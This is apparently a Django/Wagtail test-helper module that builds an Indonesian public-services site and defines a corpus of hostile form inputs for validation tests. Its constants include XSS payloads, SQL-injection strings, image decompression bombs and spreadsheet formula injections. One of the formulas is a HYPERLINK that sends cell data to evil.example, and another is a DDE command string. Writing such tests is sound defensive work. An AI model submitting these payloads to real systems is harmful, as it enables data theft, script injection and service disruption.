"""The bad-input corpus's shared parts: the hostile values, the site they are sent to
(built once per test module inside a transaction rolled back at the end), the shape of a
form's description and the check that an error is clear and in Indonesian."""

import datetime
import re
from dataclasses import dataclass, field
from pathlib import Path

import django
from django.conf import settings as django_settings
from django.db import transaction
from django.utils import timezone

from wagtail.models import Locale, Page, Site

import polib

from complaint_forms.models import Status
from outreach import links
from outreach.models import (
    ApplicationStatus,
    ProgramKind,
)
from tests import bombs
from tests.complaint_forms.factories import (
    CategoryFactory,
    ReportFactory,
    ReportPageFactory,
    WorkUnitFactory,
)
from tests.factories import HomePageFactory
from tests.outreach.factories import (
    AmbassadorApplicationFactory,
    EventPageFactory,
    ProgramIndexPageFactory,
    ProgramPageFactory,
)
from tests.search.factories import AnswerPageFactory, KnowledgeBaseIndexPageFactory

# --- hostile values --------------------------------------------------------------------
NUL = "abc\x00def"
OVERSIZED = "a" * 100_000
INVISIBLE_ONLY = "\u200b\u200c\u200d\u2060\ufeff"
MARKUP = ["<script>alert(1)</script>", '"><img src=x onerror=alert(1)>']
FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"klik")',
    "+62-1+1",
    "@SUM(1+1)*cmd|' /C calc'!A0",
]
BAD_DATES = ["2026-13-45", "2026-02-30", "0000-00-00", "kemarin", "9999-99-99", "2026-01-05'--"]
BAD_NUMBERS = ["-1", "99999999999999999999", "1e309", "NaN", "abc", "1/2"]
BAD_CHOICES = ["<script>", "x" * 300, "🙂", "' OR 1=1 --"]
BAD_EMAILS = ["not-an-email", "a@b", "<a@b.c>"]
BAD_PHONES = ["=1+1", "0812<script>", "12", "1" * 40]
FILE_BOMBS = {
    "jpeg-12000x12000-header": lambda: bombs.jpeg_claiming(12_000, 12_000),
    "png-64mpx-zeros": lambda: bombs.png_bomb(8_000, 8_000),
    "heic": bombs.heic_header,
    "gif": bombs.gif_image,
    "html-named-jpg": lambda: b"<!DOCTYPE html><script>alert(1)</script>",
    "truncated-jpeg": lambda: b"\xff\xd8\xff\xe0" + b"\x00" * 100,
}


def days_from_today(days):
    return (timezone.localdate() + datetime.timedelta(days=days)).isoformat()


# --- the site, built once --------------------------------------------------------------
def built_site(django_db_blocker):
    """For a module-scoped fixture: the site, inside a transaction rolled back afterwards."""
    with django_db_blocker.unblock():
        outer = transaction.atomic()
        outer.__enter__()
        try:
            yield _build_site()
        finally:
            transaction.set_rollback(True)
            outer.__exit__(None, None, None)


def _build_site():
    locales = {
        code: Locale.objects.get_or_create(language_code=code)[0]
        for code, _name in django_settings.LANGUAGES
    }
    root = Page.get_first_root_node()
    home = HomePageFactory(parent=root, slug="beranda", locale=locales["id"])
    Site.objects.filter(is_default_site=True).update(root_page=home, hostname="testserver", port=80)
    report_page = ReportPageFactory(parent=home)
    report_page.save_revision().publish()
    category = CategoryFactory(default_unit=WorkUnitFactory(), locale=locales["id"])
    needs_info = ReportFactory(status=Status.NEEDS_INFO)
    answered = ReportFactory(status=Status.ANSWERED)
    programs = ProgramIndexPageFactory(parent=home)
    school = ProgramPageFactory(parent=programs, slug="sekolah", kind=ProgramKind.SCHOOL)
    duta = ProgramPageFactory(
        parent=programs,
        slug="duta",
        kind=ProgramKind.AMBASSADOR,
        min_age=15,
        max_age=25,
        applications_open=timezone.now() - datetime.timedelta(days=1),
        applications_close=timezone.now() + datetime.timedelta(days=30),
    )
    difabel = ProgramPageFactory(parent=programs, slug="difabel", kind=ProgramKind.DISABILITY)
    event = EventPageFactory(parent=school, slug="acara", capacity=500)
    ambassador = AmbassadorApplicationFactory(program=duta, status=ApplicationStatus.ACCEPTED)
    kb_index = KnowledgeBaseIndexPageFactory(parent=home, locale=locales["id"])
    answer = AnswerPageFactory(parent=kb_index, title="Cara membuat KTP")
    return {
        "report_page": report_page,
        "category": category,
        "needs_info": needs_info,
        "answered": answered,
        "school": school,
        "duta": duta,
        "difabel": difabel,
        "event": event,
        "activity_token": links.AMBASSADOR_LINK.token(ambassador),
        "answer": answer,
    }


# --- the forms -------------------------------------------------------------------------
@dataclass
class Form:
    """One public form: where it posts, a valid submission, and what it stores."""

    url: callable
    valid: callable
    stored: callable
    context: object = "form"  # the form's name in the context, or a function finding it
    prefix: str = ""
    text: list = field(default_factory=list)  # free text, any length limit
    required_text: list = field(default_factory=list)  # must hold visible text
    choices: list = field(default_factory=list)
    dates: list = field(default_factory=list)
    numbers: list = field(default_factory=list)
    emails: list = field(default_factory=list)
    phones: list = field(default_factory=list)
    required: list = field(default_factory=list)
    file_field: str = ""
    # Free text where markup and formulas are stored as typed (escaped on output).
    accepts_markup: bool = True
    # The answer to an accepted submission: a redirect to the thanks page, or 200 where
    # the form answers on its own page.
    accepted: int = 302
    # The answer to a JSON body: outreach forms show the empty form again (200), the
    # report form and feedback refuse (400), the tracking forms find no report (404).
    json_body: int = 400


# --- checking "clear and translated" ---------------------------------------------------
def _english_messages():
    """Every English message that has an Indonesian translation, as a pattern: an error
    that still matches one was shown untranslated."""
    exact, patterns = set(), []
    catalogues = [
        Path(django_settings.BASE_DIR) / "site_core/locale/id/LC_MESSAGES/django.po",
        Path(django.__file__).parent / "conf/locale/id/LC_MESSAGES/django.po",
    ]
    for path in catalogues:
        for entry in polib.pofile(str(path)):
            if not entry.msgstr or entry.msgstr == entry.msgid or entry.obsolete:
                continue
            if "%" in entry.msgid:
                pattern = re.sub(r"%(\([a-z_]+\))?[sdr]", "(.+?)", re.escape(entry.msgid))
                patterns.append(re.compile(pattern.replace(r"\%", "%")))
            else:
                exact.add(entry.msgid)
    return exact, patterns


ENGLISH = _english_messages()


def assert_indonesian(message):
    exact, patterns = ENGLISH
    assert message.strip(), "empty error message"
    assert message not in exact, f"untranslated error: {message!r}"
    for pattern in patterns:
        assert not pattern.fullmatch(message), f"untranslated error: {message!r}"


def tracking_url(site):
    return site["report_page"].subpage_url("tracking")
